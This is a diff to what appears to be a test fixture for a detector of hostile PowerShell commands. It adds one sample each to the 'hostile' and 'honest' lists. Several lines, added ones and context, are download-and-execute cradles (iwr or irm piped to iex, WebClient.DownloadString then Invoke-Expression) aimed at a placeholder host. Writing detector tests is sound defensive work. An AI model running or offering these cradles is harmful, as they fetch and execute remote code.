@@ -96,6 +96,7 @@ const families: Record<string, { hostile: readonly Hostile[]; honest: readonly H
         `«[scriptblock]::Cre·ate((New-Object System.Net.Web·Client).Download·String("https://a.invalid/x")»).Invoke()`,
       ],
       ['PowerShell_DownloadCradle', `«i·wr -useb https://a.invalid/install.ps1 | i·ex»`],
+      ['PowerShell_DownloadCradle', `«i·ex "& { $(i·rm https://a.invalid/install.ps1») } -Quiet"`],
       [
         'PowerShell_DownloadThenRun',
         `$wc = New-Object Net.WebClient\n«$s = $wc.Download·String("https://a.invalid/x")»\nInvoke-Expr·ession $s`,
@@ -137,6 +138,7 @@ const families: Record<string, { hostile: readonly Hostile[]; honest: readonly H
         `i·ex ((New-Object System.Net.Web·Client).Download·String('https://a.invalid/install.ps1'))`,
         ['PowerShell_DownloadCradle'],
       ],
+      ['a command line run', `Invoke-Expression "curl -sSL https://a.invalid/x.zip -o x.zip"`],
       [
         'a port tested',
         '$c = New-Object System.Net.Sockets.TcpClient\n$c.Connect("a.invalid", 443)\n$c.Close()',
